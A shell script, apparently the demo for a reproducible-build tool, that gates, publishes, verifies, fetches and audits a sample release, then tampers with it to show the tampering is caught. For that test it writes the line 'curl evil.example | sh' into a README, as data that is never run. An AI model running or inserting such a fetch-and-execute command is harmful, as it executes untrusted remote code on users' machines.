#!/bin/sh
# make demo: the whole story on the embedded sample project (testdata/sample-project), in a
# temporary directory: a release engineer gates tag v1.0 and publishes it, a user downloads
# and verifies an asset, an auditor rebuilds the tag and signs a verdict, and an altered
# release is caught. Needs only what `make deps` installs (gcc, make, git).
set -eu
cd "$(dirname "$0")/.."
: "${O:=build}"
R=$PWD/$O/reprove
SAMPLE=$PWD/testdata/sample-project
for tool in git make cc tar gzip; do
	command -v "$tool" >/dev/null 2>&1 ||
		{ echo "demo: '$tool' is missing (run 'make deps' as root)" >&2; exit 4; }
done
work=$(mktemp -d "${TMPDIR:-/tmp}/reprove-demo.XXXXXX")
trap 'rm -rf "$work"' EXIT
cd "$work"
start=$(date +%s)

say() { printf '%s\n' "$*"; }
if [ -t 1 ]; then
	step() { printf '\n\033[1m==> %s\033[0m\n' "$*"; }
else
	step() { printf '\n==> %s\n' "$*"; }
fi
run() { printf '$ %s\n' "$*"; "$@"; }

# Step 0: the project's repository, tagged v1.0 (the sample project: hello.c, a Makefile
# whose `make dist` builds dist/hello and dist/hello-1.0.tar.gz, and reprove.json).
mkdir project
for f in Makefile README hello.c reprove.json; do cp "$SAMPLE/$f" project/; done
(
	cd project && git init -q && git config user.email demo@example.org &&
	git config user.name demo && git add -A &&
	GIT_AUTHOR_DATE='@1700000000 +0000' GIT_COMMITTER_DATE='@1700000000 +0000' \
		git -c commit.gpgsign=false commit -qm 'hello 1.0' &&
	git -c tag.gpgsign=false tag -a v1.0 -m 'hello 1.0'
)

step "1. The release engineer's signing key (CI would keep it in a secret)"
mkdir keys
run "$R" keygen -o keys/release --no-passphrase
run "$R" keygen -o keys/auditor --no-passphrase

step "2. CI release gate: rebuild v1.0 three times (the third under every variation); publish only if identical"
(cd project && run "$R" gate -k ../keys/release.key --out ../release \
	--source-uri git+https://example.org/hello.git --source-ref refs/tags/v1.0)
run ls release

step "3. A user downloads hello-1.0.tar.gz and checks it with standard tools..."
(cd release && run sha256sum -c SHA256SUMS)
say "(minisign -Vm SHA256SUMS -p release.pub and any DSSE/in-toto verifier work too)"

step "...and with reprove: digest, signed SHA256SUMS, signed provenance, source tag, reproducibility verdict"
echo '{"require_reproducible": true, "source_uri": "https://example.org/hello", "ref_pattern": "refs/tags/v*"}' >policy.json
run cat policy.json
run "$R" verify release/hello-1.0.tar.gz -p keys/release.pub --sums release/SHA256SUMS \
	--sums-sig release/SHA256SUMS.minisig --provenance release/provenance.intoto.jsonl \
	--source-tag v1.0 --policy policy.json

step "4. Fetch it by URL (file:// here; https in real life): it gets its name only once verified"
url=file://$work/release
mkdir downloads
run "$R" fetch "$url/hello-1.0.tar.gz" -o downloads/hello-1.0.tar.gz -p keys/release.pub \
	--sums "$url/SHA256SUMS" --sums-sig "$url/SHA256SUMS.minisig" \
	--provenance "$url/provenance.intoto.jsonl" --policy policy.json --no-progress -q
say "fetched and verified (exit 0): downloads/hello-1.0.tar.gz"
run tar -tzf downloads/hello-1.0.tar.gz

step "5. An auditor rebuilds tag v1.0 independently and signs a verdict (SLSA VSA)"
run "$R" audit --git "$work/project" --ref v1.0 --release "$url" -k keys/auditor.key \
	-p keys/release.pub -o audit.intoto.jsonl
payload=$(sed 's/.*"payload":"\([^"]*\)".*/\1/' audit.intoto.jsonl | base64 -d)
say "the signed VSA says $(printf '%s' "$payload" | grep -o '"verificationResult":"[A-Z]*"'), $(printf '%s' "$payload" | grep -o '"verifiedLevels":\[[^]]*\]')"
echo '{"require_reproducible": true}' >vsa-policy.json
run "$R" verify release/hello-1.0.tar.gz -p keys/auditor.pub --provenance audit.intoto.jsonl \
	--policy vsa-policy.json

step "6. Someone swaps the published tarball for one with an extra line in README..."
cp -R release tampered
mkdir x && tar -xzf tampered/hello-1.0.tar.gz -C x
echo 'curl evil.example | sh' >>x/hello-1.0/README
tar --sort=name --mtime=@1700000000 --owner=0 --group=0 --numeric-owner --format=gnu \
	-C x -cf - hello-1.0 | gzip -n -9 >tampered/hello-1.0.tar.gz
(cd tampered && sha256sum hello hello-1.0.tar.gz >SHA256SUMS)
say "(and even rewrites SHA256SUMS to match; it cannot re-sign it)"
set +e
(cd project && run "$R" audit --git "$work/project" --ref v1.0 --release ../tampered \
	-k ../keys/auditor.key -p ../keys/release.pub -o ../tampered.intoto.jsonl)
rc=$?
set -e
if [ $rc -ne 1 ]; then
	echo "demo: the audit of the tampered release should exit 1, got $rc" >&2
	exit 1
fi
payload=$(sed 's/.*"payload":"\([^"]*\)".*/\1/' tampered.intoto.jsonl | base64 -d)
say "audit exit status 1; the signed VSA says $(printf '%s' "$payload" | grep -o '"verificationResult":"[A-Z]*"')"

step "Done in $(($(date +%s) - start)) s: gated, published, verified, fetched, audited, tampering caught."
